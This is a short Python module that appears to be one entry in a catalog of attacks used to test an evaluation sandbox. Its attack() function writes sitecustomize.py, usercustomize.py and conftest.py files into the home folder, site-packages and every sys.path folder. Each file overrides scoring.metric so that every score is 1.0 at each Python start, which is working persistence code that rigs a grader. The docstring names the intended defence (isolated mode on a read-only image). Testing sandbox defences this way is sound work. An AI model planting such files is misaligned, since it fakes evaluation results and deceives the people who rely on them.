"""Leaves code that Python runs by itself at every start.

ids: 21
effect: later
defence: Boxes run `python -I` on a read-only image, and nothing on disk outlives a job.
"""

import contextlib
import os
import site
import sys

CODE = "import scoring\nscoring.metric = lambda *_: 1.0\n"


def attack(world):
    folders = ["site", os.path.expanduser("~"), site.getusersitepackages(), *sys.path]
    for folder in folders:
        for name in ("sitecustomize.py", "usercustomize.py", "conftest.py"):
            with contextlib.suppress(OSError), open(os.path.join(folder, name), "x") as file:
                file.write(CODE)
